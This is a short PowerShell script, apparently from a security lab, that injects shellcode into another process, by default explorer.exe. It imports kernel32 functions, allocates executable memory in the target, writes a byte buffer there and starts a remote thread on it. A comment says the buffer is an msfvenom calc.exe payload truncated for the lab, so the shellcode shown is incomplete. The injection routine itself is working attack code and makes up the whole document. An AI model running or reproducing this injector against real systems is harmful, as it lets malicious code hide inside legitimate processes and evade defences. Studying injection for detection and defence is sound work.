param([int]$TargetPid = (Get-Process -Name explorer | Select-Object -First 1).Id)

Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public static class K32 {
    [DllImport("kernel32.dll")] public static extern IntPtr OpenProcess(uint access, bool inherit, int pid);
    [DllImport("kernel32.dll")] public static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr addr, uint size, uint type, uint protect);
    [DllImport("kernel32.dll")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr addr, byte[] buf, uint size, out UIntPtr written);
    [DllImport("kernel32.dll")] public static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr attr, uint stack, IntPtr start, IntPtr param, uint flags, IntPtr tid);
}
"@

# msfvenom -p windows/x64/exec CMD=calc.exe -f ps1 (truncated for the lab)
[Byte[]]$buf = 0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0x00, 0x00, 0x00, 0x41, 0x51, 0x41, 0x50, 0x52

$hProc = [K32]::OpenProcess(0x001F0FFF, $false, $TargetPid)
$addr = [K32]::VirtualAllocEx($hProc, [IntPtr]::Zero, [uint32]$buf.Length, 0x3000, 0x40)
$written = [UIntPtr]::Zero
[void][K32]::WriteProcessMemory($hProc, $addr, $buf, [uint32]$buf.Length, [ref]$written)
$thread = [K32]::CreateRemoteThread($hProc, [IntPtr]::Zero, 0, $addr, [IntPtr]::Zero, 0, [IntPtr]::Zero)
"thread handle: $thread"
